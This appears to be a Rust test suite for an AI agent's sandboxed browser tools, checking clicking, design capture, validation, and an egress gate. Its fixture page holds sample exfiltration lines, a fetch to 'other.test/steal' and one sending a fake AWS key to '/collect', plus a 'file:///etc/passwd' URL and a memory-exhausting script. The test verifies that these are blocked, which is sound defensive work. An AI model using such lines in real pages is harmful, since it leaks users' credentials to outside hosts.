//! The browser tools (`play_test`, `capture_reference`, `validate_web_app`) through the whole
//! pipeline, in real headless Chromium (the Debian package, in its bubblewrap sandbox),
//! against small web apps served here on loopback (names answered by an injected resolver):
//! a page whose buttons throw, log and fetch what is missing; a page of known colours, type
//! and breakpoints; an app with good and broken links, headers, and text its script renders.
//! And the egress side: a sub-resource or a script's request to a host the agent may not
//! reach is refused by the gate and reported, and never arrives; a WebSocket, which the gate
//! does not see, finds no network in the browser's sandbox; a page that hangs is stopped at
//! the time limit with its browser.

use std::collections::HashMap;
use std::fs;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use aether_policy::paths::RootMode;
use axum::Router;
use axum::http::header;
use axum::response::Html;
use axum::routing::get;
use serde_json::json;

use crate::support::*;

/// A server on `other.test` (which the agent may not reach) that counts what arrives.
async fn other() -> (u16, Arc<AtomicUsize>) {
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = hits.clone();
    let app = Router::new().fallback(move || {
        counted.fetch_add(1, Ordering::SeqCst);
        async { "you should not be here" }
    });
    (serve(app).await, hits)
}

/// A plain TCP listener that counts the connections made to it.
async fn listener() -> (u16, Arc<AtomicUsize>) {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = hits.clone();
    tokio::spawn(async move {
        while let Ok((s, _)) = l.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(s);
        }
    });
    (port, hits)
}

/// A read-write root `ws`; the agent may reach `app.test` (loopback, allowed to it), and
/// not `other.test`.
async fn world() -> NetWorld {
    NetWorld::new(
        &[("ws", RootMode::ReadWrite)],
        &["app.test", "other.test"],
        &["workspace", "research", "quality"],
        &["app.test"],
    )
    .await
}

/// A PNG's width and height, from its header.
fn png_size(bytes: &[u8]) -> (u32, u32) {
    assert_eq!(&bytes[..8], b"\x89PNG\r\n\x1a\n", "not a PNG");
    let be = |at: usize| u32::from_be_bytes(bytes[at..at + 4].try_into().unwrap());
    (be(16), be(20))
}

/// Browsers (processes started with the DevTools pipe) descended from this process.
fn my_browsers() -> Vec<u32> {
    let me = std::process::id();
    let mut parent: HashMap<u32, u32> = HashMap::new();
    let mut browsers = Vec::new();
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(stat) = fs::read_to_string(format!("/proc/{pid}/stat")) else {
            continue;
        };
        // The parent is the second field after the command's closing parenthesis.
        let Some(after) = stat.rsplit_once(')').map(|(_, a)| a) else {
            continue;
        };
        let ppid = after.split_whitespace().nth(1).unwrap().parse().unwrap();
        parent.insert(pid, ppid);
        let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&cmdline).contains("--remote-debugging-pipe") {
            browsers.push(pid);
        }
    }
    browsers
        .into_iter()
        .filter(|pid| {
            let mut p = *pid;
            for _ in 0..64 {
                match parent.get(&p) {
                    Some(&pp) if pp == me => return true,
                    Some(&pp) if pp > 1 => p = pp,
                    _ => return false,
                }
            }
            false
        })
        .collect()
}

/// The page a visitor plays: a button that works, one that throws, one that logs an error,
/// one that fetches what is not there, a link to another page, a hidden button; on load an
/// image from a host the agent may not reach and a WebSocket to a loopback listener.
fn play_app(other_port: u16, ws_port: u16, collected: Arc<AtomicUsize>) -> Router {
    let page = format!(
        r#"<!doctype html><html><head><title>Play me</title></head><body>
<h1>Play me</h1>
<button onclick="document.body.dataset.clicked = '1'">Fine</button>
<button onclick="throw new Error('boom from the button')">Throw</button>
<button onclick="console.error('logged by the second')">Log</button>
<button onclick="fetch('/missing')">Missing</button>
<button onclick="fetch('http://other.test:{other_port}/steal?k=' + document.title)">Leak</button>
<button onclick="fetch('/collect?k=' + ['AKIA', '2E7XQ4WJ9KD3LM6P'].join(''))">Exfiltrate</button>
<a href='#top'>Top</a>
<a href="/next">Next page</a>
<button style="display:none">Hidden</button>
<img src="http://other.test:{other_port}/pixel.png" alt="">
<script>try {{ new WebSocket('ws://127.0.0.1:{ws_port}/'); }} catch (e) {{}}</script>
</body></html>"#
    );
    Router::new()
        .route(
            "/",
            get(move || {
                let page = page.clone();
                async move { Html(page) }
            }),
        )
        .route(
            "/next",
            get(|| async { Html("<!doctype html><title>Next</title><p>the next page</p>") }),
        )
        .route(
            "/collect",
            get(move || {
                collected.fetch_add(1, Ordering::SeqCst);
                async { "collected" }
            }),
        )
}

#[tokio::test]
async fn play_test_clicks_each_control_and_reports_what_each_throws() {
    let w = world().await;
    let (other_port, other_hits) = other().await;
    let (ws_port, ws_hits) = listener().await;
    let collected = Arc::new(AtomicUsize::new(0));
    let port = serve(play_app(other_port, ws_port, collected.clone())).await;
    let result = w
        .call(
            "play_test",
            json!({"url": format!("http://app.test:{port}/"), "screenshot": "qa/play.png"}),
        )
        .await;
    let out = structured(&result);
    assert_eq!(out["title"], "Play me");
    assert_eq!(out["screenshot"], "ws:qa/play.png");
    let (width, _) = png_size(&fs::read(w.ws.join("qa/play.png")).unwrap());
    assert_eq!(width, 1280);

    // Eight visible controls, in the page's order; the hidden one is not among them.
    let controls = out["controls"].as_array().unwrap();
    let labels: Vec<&str> = controls
        .iter()
        .map(|c| c["label"].as_str().unwrap())
        .collect();
    assert_eq!(
        labels,
        [
            "Fine",
            "Throw",
            "Log",
            "Missing",
            "Leak",
            "Exfiltrate",
            "Top",
            "Next page"
        ]
    );
    let errors = |i: usize| -> Vec<(String, String)> {
        controls[i]["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                (
                    e["kind"].as_str().unwrap().to_string(),
                    e["message"].as_str().unwrap().to_string(),
                )
            })
            .collect()
    };
    assert_eq!(errors(0), vec![]);
    assert_eq!(
        errors(1),
        vec![("exception".into(), "Error: boom from the button".into())]
    );
    assert_eq!(
        errors(2),
        vec![("console".into(), "logged by the second".into())]
    );
    let missing = errors(3);
    assert_eq!(missing.len(), 1, "{missing:?}");
    assert_eq!(missing[0].0, "request");
    assert!(
        missing[0].1.ends_with("/missing answered 404"),
        "{missing:?}"
    );
    // The script's request to a host the agent may not reach: refused by the gate.
    let leak = errors(4);
    assert!(
        leak.iter()
            .any(|(k, m)| k == "request" && m.contains("other.test") && m.contains("was blocked")),
        "{leak:?}"
    );
    // A credential on its way to the allowed host: refused by the gate's scan.
    let exfiltrate = errors(5);
    assert!(
        exfiltrate.iter().any(|(k, m)| k == "request"
            && m.contains("/collect was blocked")
            && m.contains("dlp:aws-access-key")),
        "{exfiltrate:?}"
    );
    // A place on the same page is not another page.
    assert_eq!(errors(6), vec![]);
    assert_eq!(controls[6].get("navigated_to"), None, "{}", controls[6]);
    assert_eq!(errors(7), vec![]);
    assert!(
        controls[7]["navigated_to"]
            .as_str()
            .unwrap()
            .ends_with("/next"),
        "{}",
        controls[7]
    );

    // On load: the image from other.test was refused by the egress gate, and reported.
    // (The browser's own look for a favicon, answered 404, is not the page's error.)
    let load = out["load_errors"].as_array().unwrap();
    assert_eq!(load.len(), 1, "{load:?}");
    assert_eq!(load[0]["kind"], "request");
    assert!(
        load[0]["message"].as_str().unwrap().contains(&format!(
            "http://other.test:{other_port}/pixel.png was blocked"
        )),
        "{load:?}"
    );
    let blocked: Vec<&str> = out["blocked_requests"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["url"].as_str().unwrap())
        .collect();
    assert_eq!(
        blocked,
        [
            format!("http://other.test:{other_port}/pixel.png"),
            format!("http://other.test:{other_port}/steal"),
            format!("http://app.test:{port}/collect"),
        ]
    );
    // Nothing of the page reached other.test, and the WebSocket, which no gate sees, found
    // no network in the browser's sandbox.
    assert_eq!(other_hits.load(Ordering::SeqCst), 0);
    assert_eq!(collected.load(Ordering::SeqCst), 0);
    assert_eq!(ws_hits.load(Ordering::SeqCst), 0);

    // Elevated: the whole result is in the audit row; the screenshot is journalled.
    let row = row_of(&w.h.store, &result.call_id).await;
    assert_eq!(row.event.outcome, "ok");
    assert!(row.event.result.contains("boom from the button"));
    ok_text(&w.call("revert_file", json!({"path": "qa/play.png"})).await);
    assert!(!w.ws.join("qa/play.png").exists());
    // The browser went with the call.
    assert_eq!(my_browsers(), Vec::<u32>::new());
    w.h.check().await;
}

/// A page of known colours (a 200 px band of #1a2b3c and one of #e05a2b on white, 800 px
/// tall), type (32, 20 and 16 px), line (16/24 px) and breakpoints (600 px, 64 em).
fn reference_app() -> Router {
    let page = r#"<!doctype html><html><head><title>Reference</title><style>
html, body { margin: 0; background: #ffffff; }
body { height: 800px; overflow: hidden; font: 16px/24px sans-serif; color: #1a2b3c; }
header { height: 200px; background: #1a2b3c; }
h1 { font-size: 32px; line-height: 40px; margin: 24px 0 0; }
h2 { font-size: 20px; line-height: 24px; margin: 24px 0 0; }
p { width: 480px; margin: 24px 0 0; }
.band { height: 200px; background: #e05a2b; margin-top: 48px; }
@media (max-width: 600px) { header { height: 100px; } }
@media (min-width: 64em) { p { width: 520px; } }
</style></head><body>
<header></header>
<h1>Title</h1>
<h2>Subtitle</h2>
<p>Running text long enough to wrap over several lines at this width, so that the measure of the page can be read from how many characters each line holds on average.</p>
<div class="band"></div>
</body></html>"#;
    Router::new().route("/", get(move || async move { Html(page) }))
}

#[tokio::test]
async fn capture_reference_reads_palette_type_measure_rhythm_and_breakpoints_from_the_rendered_page()
 {
    let w = world().await;
    let port = serve(reference_app()).await;
    let result = w
        .call(
            "capture_reference",
            json!({"url": format!("http://app.test:{port}/"), "output": "design/ref"}),
        )
        .await;
    let out = structured(&result);
    assert_eq!(out["title"], "Reference");
    assert_eq!(
        out["screenshots"],
        json!(["ws:design/ref-desktop.png", "ws:design/ref-phone.png"])
    );
    assert_eq!(
        png_size(&fs::read(w.ws.join("design/ref-desktop.png")).unwrap()),
        (1280, 800)
    );
    assert_eq!(
        png_size(&fs::read(w.ws.join("design/ref-phone.png")).unwrap()).0,
        390
    );
    // Palette by painted area: each band is 200 of 800 px (25 %), white most of the rest;
    // the text's pixels take a little of the white.
    let share = |hex: &str| -> f64 {
        out["palette"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["hex"] == hex)
            .unwrap_or_else(|| panic!("{hex} not in {}", out["palette"]))["share"]
            .as_f64()
            .unwrap()
    };
    let dark = share("#1a2b3c");
    assert!((0.25..0.27).contains(&dark), "{dark}");
    let orange = share("#e05a2b");
    assert!((0.249..0.251).contains(&orange), "{orange}");
    let white = share("#ffffff");
    assert!((0.40..0.50).contains(&white), "{white}");
    assert_eq!(out["palette"][0]["hex"], "#ffffff");
    // Type: three steps, largest first, each with its element.
    let scale: Vec<(f64, String)> = out["type_scale"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["px"].as_f64().unwrap(),
                s["elements"][0].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        scale,
        vec![(32.0, "h1".into()), (20.0, "h2".into()), (16.0, "p".into())]
    );
    assert_eq!(out["scale_ratio"], 1.425);
    // Measure: one paragraph over several lines, 480 px wide (the 64 em rule needs more
    // than 1024 px... which 1280 is: 520 px).
    assert_eq!(out["measure"]["blocks"], 1);
    assert_eq!(out["measure"]["width_px"], 520.0);
    let cpl = out["measure"]["characters_per_line"].as_f64().unwrap();
    assert!((40.0..90.0).contains(&cpl), "{cpl}");
    // Rhythm: the body's 16/24, and 24 px (one line) the margin most blocks keep.
    assert_eq!(out["rhythm"]["base_font_px"], 16.0);
    assert_eq!(out["rhythm"]["base_line_height_px"], 24.0);
    assert_eq!(out["rhythm"]["spacing"][0]["px"], 24.0);
    assert_eq!(out["rhythm"]["spacing"][0]["lines"], 1.0);
    assert_eq!(out["breakpoints"], json!([600.0, 1024.0]));
    assert_eq!(out["load_errors"], json!([]));
    w.h.check().await;
}

/// An app with text its script renders, a header, good and broken links, a clean page and
/// one that throws on load.
fn app() -> Router {
    Router::new()
        .route(
            "/",
            get(|| async {
                (
                    [(header::X_FRAME_OPTIONS, "DENY")],
                    Html(
                        r#"<!doctype html><title>Shop</title><h1>Shop</h1>
<a href="/about">About</a> <a href="/gone">Gone</a> <a href="/about#team">Team</a>
<script>document.body.insertAdjacentHTML('beforeend', '<p>Rendered by script</p>')</script>"#,
                    ),
                )
            }),
        )
        .route(
            "/about",
            get(|| async { Html("<!doctype html><title>About</title><p>about us</p>") }),
        )
        .route(
            "/clean",
            get(|| async {
                Html("<!doctype html><title>Clean</title><a href=\"/about\">About</a>")
            }),
        )
        .route(
            "/noisy",
            get(|| async {
                Html("<!doctype html><title>Noisy</title><script>undefinedFunction()</script>")
            }),
        )
}

#[tokio::test]
async fn validate_web_app_gives_one_pass_or_fail_row_per_check() {
    let w = world().await;
    let port = serve(app()).await;
    let result = w
        .call(
            "validate_web_app",
            json!({
                "url": format!("http://app.test:{port}/"),
                "checks": [
                    {"check": "status"},
                    {"check": "status", "path": "/gone"},
                    {"check": "status", "path": "/gone", "expect": 404},
                    {"check": "header", "name": "x-frame-options", "contains": "DENY"},
                    {"check": "header", "name": "content-security-policy"},
                    {"check": "contains", "text": "Rendered by script"},
                    {"check": "contains", "text": "Not there"},
                    {"check": "links"},
                    {"check": "links", "path": "/clean"},
                    {"check": "no_console_errors", "path": "/clean"},
                    {"check": "no_console_errors", "path": "/noisy"}
                ]
            }),
        )
        .await;
    let out = structured(&result);
    let rows: Vec<(String, String, String)> = out["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["check"].as_str().unwrap().to_string(),
                r["result"].as_str().unwrap().to_string(),
                r["detail"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let results: Vec<&str> = rows.iter().map(|r| r.1.as_str()).collect();
    assert_eq!(
        results,
        [
            "PASS", "FAIL", "PASS", "PASS", "FAIL", "PASS", "FAIL", "FAIL", "PASS", "PASS", "FAIL"
        ],
        "{rows:#?}"
    );
    assert!(rows[1].2.ends_with("answered 404"), "{:?}", rows[1]);
    assert_eq!(rows[3].2, "x-frame-options: DENY");
    // Two links (the fragment is the same page), one broken.
    assert!(
        rows[7].2.starts_with("1 of 2 link(s) broken"),
        "{:?}",
        rows[7]
    );
    assert!(rows[7].2.contains("/gone answered 404"), "{:?}", rows[7]);
    assert!(rows[10].2.contains("undefinedFunction"), "{:?}", rows[10]);
    assert_eq!(
        (out["passed"].clone(), out["failed"].clone()),
        (json!(6), json!(5))
    );
    w.h.check().await;
}

#[tokio::test]
async fn browser_tools_refuse_what_the_agent_may_not_reach_and_bad_input_and_stop_at_their_time() {
    let w = world().await;
    let (other_port, hits) = other().await;
    let port = serve(app()).await;
    // A page on a host the agent may not reach: refused before any browser starts.
    for (tool, args) in [
        (
            "play_test",
            json!({"url": format!("http://other.test:{other_port}/"), "screenshot": "x.png"}),
        ),
        (
            "capture_reference",
            json!({"url": format!("http://other.test:{other_port}/"), "output": "x"}),
        ),
        (
            "validate_web_app",
            json!({"url": format!("http://other.test:{other_port}/"), "checks": [{"check": "status"}]}),
        ),
    ] {
        let r = w.call(tool, args).await;
        refused(
            &w.h.store,
            &r,
            aether_policy::Step::Egress,
            "egress:domain-not-allowed",
        )
        .await;
    }
    assert_eq!(hits.load(Ordering::SeqCst), 0);
    // A credential in the page's URL: refused before anything leaves.
    let r = w
        .call(
            "play_test",
            json!({"url": format!("http://app.test:{port}/?k=AKIA2E7XQ4WJ9KD3LM6P"), "screenshot": "x.png"}),
        )
        .await;
    refused(
        &w.h.store,
        &r,
        aether_policy::Step::Egress,
        "dlp:aws-access-key",
    )
    .await;
    // Bad input: clear errors.
    for (tool, args, says) in [
        (
            "play_test",
            json!({"url": "file:///etc/passwd", "screenshot": "x.png"}),
            "",
        ),
        (
            "validate_web_app",
            json!({"url": format!("http://app.test:{port}/"), "checks": []}),
            "give 1 to 50 checks",
        ),
        (
            "validate_web_app",
            json!({"url": format!("http://app.test:{port}/"), "checks": [{"check": "status", "path": format!("http://other.test:{other_port}/")}]}),
            "",
        ),
        (
            "validate_web_app",
            json!({"url": format!("http://app.test:{port}/"), "checks": [{"check": "colour"}]}),
            "/checks/0",
        ),
        (
            "capture_reference",
            json!({"url": format!("http://app.test:{port}/"), "output": "design/"}),
            "without extension",
        ),
    ] {
        let said = failure(&w.call(tool, args.clone()).await);
        assert!(said.contains(says), "{args}: {said}");
    }
    assert_eq!(hits.load(Ordering::SeqCst), 0);
    // Nothing was saved by any of them.
    assert_eq!(fs::read_dir(&w.ws).unwrap().count(), 0);

    // A page that never finishes loading: stopped at the call's time, its browser with it.
    let hang = Router::new().route(
        "/",
        get(|| async {
            tokio::time::sleep(Duration::from_secs(3600)).await;
            "never"
        }),
    );
    let hang_port = serve(hang).await;
    let started = std::time::Instant::now();
    let r = w
        .call(
            "play_test",
            json!({"url": format!("http://app.test:{hang_port}/"), "screenshot": "x.png", "timeout_seconds": 5}),
        )
        .await;
    let said = failure(&r);
    assert!(said.contains("within 5 s"), "{said}");
    assert!(started.elapsed() < Duration::from_secs(20));
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(my_browsers(), Vec::<u32>::new());
    w.h.check().await;
}

#[tokio::test]
async fn a_page_that_allocates_without_end_crashes_its_renderer_not_the_host_and_is_said_so() {
    let w = world().await;
    let greedy = Router::new().route(
        "/",
        get(|| async {
            Html(
                "<!doctype html><title>Greedy</title><script>const a = []; \
                 for (;;) { a.push(new Array(1 << 20).fill(1.5)); }</script>",
            )
        }),
    );
    let port = serve(greedy).await;
    let started = std::time::Instant::now();
    let r = w
        .call(
            "play_test",
            json!({"url": format!("http://app.test:{port}/"), "screenshot": "g.png", "timeout_seconds": 20}),
        )
        .await;
    // Said as soon as the renderer gives up, not at the call's time limit.
    let said = failure(&r);
    assert!(said.contains("the page crashed"), "{said}");
    assert!(started.elapsed() < Duration::from_secs(15), "{said}");
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(my_browsers(), Vec::<u32>::new());
    assert!(!w.ws.join("g.png").exists());
    w.h.check().await;
}
